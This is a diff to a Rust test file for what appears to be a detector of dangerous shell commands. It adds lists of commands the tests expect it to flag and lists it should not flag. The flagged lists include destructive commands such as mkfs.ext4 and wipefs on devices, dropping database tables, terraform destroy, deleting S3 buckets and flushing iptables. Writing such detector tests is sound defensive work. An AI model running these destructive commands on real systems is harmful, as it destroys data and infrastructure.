@@ -18,7 +18,10 @@ impl Facts for World {
             exists: !known || ["old", "ours", "dir"].iter().any(|part| name.starts_with(part)),
             folder: known && name.starts_with("dir"),
             ours: known && name.starts_with("ours"),
-            inside: known && !path.starts_with(['/', '~']) && !path.contains(".."),
+            inside: known
+                && !path.starts_with(['/', '~'])
+                && !path.contains("..")
+                && !places.dirs.iter().any(|dir| dir.starts_with('/') || dir.contains("..")),
             passing: path.starts_with("/tmp/new"),
         }
     }
@@ -137,6 +140,78 @@ fn what_is_dangerous_by_other_programs_and_options() {
     ] {
         is_dangerous(line, code);
     }
+}
+
+/// Files outside of the workspace, which nothing brings back.
+#[rustfmt::skip]
+const LOST_ELSEWHERE: &[&str] = &[
+    "tar xf a.tar -C /dir", "tar -xzf a.tgz -C/dir", "tar xf a.tar --directory=/dir", "tar x -f a.tar --directory ../dir", "tar xPf a.tar", "tar -x --absolute-names -f a.tar", "cd /dir && tar xf a.tar", "cd ../dir && tar -xf a.tar", "bsdtar -xf a -C /dir",
+    "tar cf /old.tar src", "tar -czf ../old.tgz src", "tar -c -f /old.tar src", "tar --create --file=/old.tar src", "jar cf /old.jar x",
+    "unzip a.zip -d /dir", "unzip -o a.zip -d /dir", "cd /dir && unzip -o a.zip", "7z x a.7z -o/dir", "cpio -i -D /dir", "patch -p1 -d /dir",
+    "gcc a.c -o /old", "gcc -o../old a.c", "clang++ a.cc -o /old", "rustc a.rs -o /old", "go build -o /old ./...", "pandoc a.md -o /old.pdf", "pandoc a.md --output=/old.pdf", "gzip -f /olda", "xz -f ../old.xz", "zstd a -o /old", "ffmpeg -y -i a /old.mp4",
+    "curl -o /old http://h/x", "curl -O --output-dir /dir http://h/old", "cd /dir && curl -sSLO http://h/old", "openssl rand -out /old 32", "gpg -o /old -d a.gpg", "pg_dump db -f /old.sql", "sed -i s/a/b/ /old", "sed -i s/a/b/ ../old", "rsync -a src/ /dir", "rsync -a src/ ../dir/", "iconv -f a -t b -o /old x",
+];
+
+#[test]
+fn what_is_lost_outside_of_the_workspace_is_dangerous() {
+    assert!(LOST_ELSEWHERE.len() >= 30);
+    let missed: Vec<_> =
+        LOST_ELSEWHERE.iter().filter(|line| !why(line).iter().any(|code| code.ends_with("overwrite"))).collect();
+    assert!(missed.is_empty(), "{missed:#?}");
+}
+
+/// The same inside, where undo brings it back, and where nothing is there.
+#[rustfmt::skip]
+const KEPT: &[&str] = &[
+    "tar xf a.tar", "tar xf a.tar -C dir", "tar xf a.tar -C sub", "cd dir && tar xf a.tar", "tar cf old.tar src", "tar cf /new.tar src", "tar cf - src", "tar tf /old.tar", "jar cf old.jar x", "unzip a.zip", "unzip -o a.zip -d dir", "unzip -l /dir/a.zip", "7z x a.7z -odir", "patch -p1",
+    "gcc a.c -o old", "gcc -fno-common -O2 -c /old.c", "gcc a.c -o /new", "go build -o old ./...", "rustc a.rs -o old", "pandoc a.md -o old.pdf", "gzip -f olda", "gzip -fc /olda", "gzip old", "zstd a -o old", "ffmpeg -y -i a old.mp4", "ffmpeg -i a /new.mp4",
+    "curl -O http://h/old", "curl -sSLO http://h/new", "openssl rand -out old 32", "sed -i s/a/b/ old", "find . -name x -exec sed -i s/a/b/ {} +", "grep -rl x src | xargs sed -i s/a/b/", "sed -n 1p /old", "rsync -a src/ dir", "rsync -an src/ /dir", "tar xf a.tar -C \"$dir\"", "for f in a b; do gcc -o \"$f\" \"$f.c\"; done",
+    "tar xf a.tar -C /tmp",
+];
+
+#[test]
+fn what_undo_brings_back_is_a_plain_change() {
+    let alarms: Vec<_> = KEPT.iter().map(|line| (line, why(line))).filter(|(_, why)| !why.is_empty()).collect();
+    assert!(alarms.is_empty(), "{alarms:#?}");
+}
+
+/// What is changed elsewhere for good.
+#[rustfmt::skip]
+const ELSEWHERE: &[&str] = &[
+    "docker stop web", "docker rm web", "docker kill web", "docker container stop web", "docker system prune -af", "podman stop x",
+    "curl -X DELETE https://h/x", "curl -XPOST https://h/x", "curl -sXPUT https://h/x", "curl --request PATCH https://h/x", "curl --request=DELETE https://h/x", "curl -d a=b https://h/x", "curl -sSd@f https://h", "curl --data-binary @f https://h", "curl --json '{}' https://h", "curl -F a=@f https://h", "curl -T f https://h/x", "curl -X \"$m\" https://h", "curl -X POST \"$URL\"", "curl -X DELETE http://localhost:9200/index", "curl -X POST https://h/x -H 'Origin: http://localhost'", "curl -d x http://localhost.evil.example/",
+    "wget --post-data=a=b https://h", "wget --post-file f https://h", "wget --method=DELETE https://h", "wget --method PUT --body-data=x https://h", "http DELETE https://h/x", "http POST h/x a=b", "http h/x a=b", "https PUT h/x a:=1", "xh DELETE h/x",
+    "kubectl create -f x.yml", "kubectl run web --image=x", "kubectl apply -f x", "kubectl delete pod x", "kubectl scale deploy/x --replicas=0", "kubectl drain n", "kubectl -n prod create job x", "kubectl expose deploy x", "kubectl set image deploy/x a=b", "kubectl label node n a=b", "oc create -f x",
+    "helm uninstall x", "helm upgrade x ./c", "helm install x ./c", "terraform apply", "terraform destroy -auto-approve", "tofu apply", "pulumi up",
+    "aws s3 rm s3://b/x", "aws s3 rb s3://b", "aws s3 cp x s3://b/x", "aws s3 sync d s3://b", "aws ec2 terminate-instances --instance-ids i", "gcloud compute instances delete x", "gcloud storage cp x gs://b/x", "gsutil cp x gs://b/x", "scp x host:y", "rsync -a d/ host:d/",
+    "gh repo delete x", "gh release delete v1", "gh pr merge 5", "npm publish", "cargo publish", "twine upload dist/x", "gem push x.gem",
+    "redis-cli flushall", "redis-cli -h h FLUSHDB", "psql -c 'drop table x'", "psql -c 'DROP POLICY p ON t'", "psql -c 'update t set a=1'", "mysql -e 'truncate t'", "mysql -e 'delete from t'", "sqlite3 x.db 'drop table t'",
+    "systemctl stop x", "systemctl disable x", "systemctl --user stop x", "crontab -r", "iptables -F", "ip route del default", "ip addr add 10.0.0.1/8 dev x", "mkfs.ext4 /dev/x", "wipefs -a /dev/x", "supervisorctl stop x",
+];
+
+#[test]
+fn what_is_changed_elsewhere_is_dangerous() {
+    assert!(ELSEWHERE.len() >= 60);
+    let missed: Vec<_> = ELSEWHERE.iter().filter(|line| why(line).is_empty()).collect();
+    assert!(missed.is_empty(), "{missed:#?}");
+}
+
+/// Questions to the same programs.
+#[rustfmt::skip]
+const ASKED_ELSEWHERE: &[&str] = &[
+    "docker ps", "docker logs -f web", "docker inspect web", "docker build -t x .", "docker images", "docker compose ps",
+    "curl https://h/x", "curl -sSL https://h/x", "curl -X GET https://h/x", "curl -I https://h", "curl -G -d q=x https://h", "curl -sG --data-urlencode q=x https://h", "curl -XHEAD https://h", "curl -X OPTIONS https://h", "curl -H 'A: b' https://h", "curl -X POST http://localhost:3000/api -d '{}'", "curl -d a=b localhost:8080", "curl -d @f http://127.0.0.1:9", "curl -s http://localhost:3000 -H \"A: $T\" -d \"$x\"", "curl -d 'u=https://x' http://localhost:1/", "curl -u me:x https://h", "curl -m 5 https://h",
+    "wget https://h/x", "wget -q --method=GET https://h", "wget --spider https://h", "http https://h/x", "http GET h/x", "http h/x q==a", "http h/x A:b", "http POST localhost:3000/x a=b",
+    "kubectl get pods", "kubectl get run", "kubectl describe pod create", "kubectl auth can-i create pods", "kubectl create deploy x --image=y --dry-run=client -o yaml", "kubectl config set-context x", "kubectl logs x", "kubectl explain pods", "helm list", "helm template x", "helm status x", "terraform plan", "terraform validate",
+    "aws s3 ls", "aws s3 cp s3://b/x .", "aws s3 sync s3://b d", "aws ec2 describe-instances", "gcloud compute instances list", "gsutil cp gs://b/x .", "scp host:y x", "rsync -a host:d/ d/", "rsync -an d/ host:d/", "gh pr view 5", "gh pr list", "gh release list", "npm view x", "cargo search x",
+    "redis-cli get x", "psql -c 'select 1'", "psql -c 'delete from t where a=1'", "psql -c 'update t set a=1 where b=2'", "mysql -e 'show tables'", "systemctl status x", "systemctl list-units", "crontab -l", "ip addr", "ip addr show", "ip route", "supervisorctl status",
+];
+
+#[test]
+fn questions_are_not_dangerous() {
+    let alarms: Vec<_> =
+        ASKED_ELSEWHERE.iter().map(|line| (line, why(line))).filter(|(_, why)| !why.is_empty()).collect();
+    assert!(alarms.is_empty(), "{alarms:#?}");
 }
 
 fn is_dangerous(line: &str, code: &str) {
